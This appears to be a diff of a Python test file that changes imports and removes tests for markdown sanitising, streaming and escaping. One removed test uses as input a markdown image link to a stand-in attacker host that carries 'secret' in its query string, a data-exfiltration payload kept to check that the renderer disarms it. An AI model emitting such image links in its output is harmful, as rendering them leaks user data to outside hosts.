@@ -2,47 +2,18 @@
 
 from __future__ import annotations
 
-import random
-
 from crew.events import Event
+from crew.safe_text import safe_url
 from crew.state import source_label
 from crew.view import (
-    SafeStream,
     TurnView,
     answer_markdown,
-    escape_md,
     mask_secret,
-    safe_markdown,
-    safe_url,
     span_tree,
     timeline_rows,
     trace_rows,
     trace_totals,
 )
-
-
-def test_safe_markdown_disarms_images_and_math_but_keeps_links():
-    text = "See ![x](http://evil.example/?q=secret) and [docs](https://example.org) for $5 or $10."
-    out = safe_markdown(text)
-    assert "![" not in out.replace("\\![", "")
-    assert "[docs](https://example.org)" in out
-    assert "\\$5" in out and "\\$10" in out
-
-
-def test_a_stream_in_pieces_is_made_as_safe_as_the_whole_text():
-    text = "Costs $3! ![img](http://x/y.png) ok! [a](b) !!![z](w) end!"
-    rng = random.Random(7)
-    for _ in range(200):
-        cuts = sorted(rng.sample(range(1, len(text)), rng.randint(1, 12)))
-        pieces = [text[i:j] for i, j in zip([0] + cuts, cuts + [len(text)])]
-        stream = SafeStream()
-        assert "".join([stream.feed(p) for p in pieces] + [stream.flush()]) == safe_markdown(text)
-
-
-def test_escape_md_shows_names_literally():
-    assert escape_md("my_file*v2*.md") == "my\\_file\\*v2\\*.md"
-    assert escape_md("a\n\nb   c") == "a b c"
-    assert escape_md("[1] <b>x</b>") == "\\[1\\] \\<b\\>x\\</b\\>"
 
 
 def test_safe_url_allows_only_http_links():
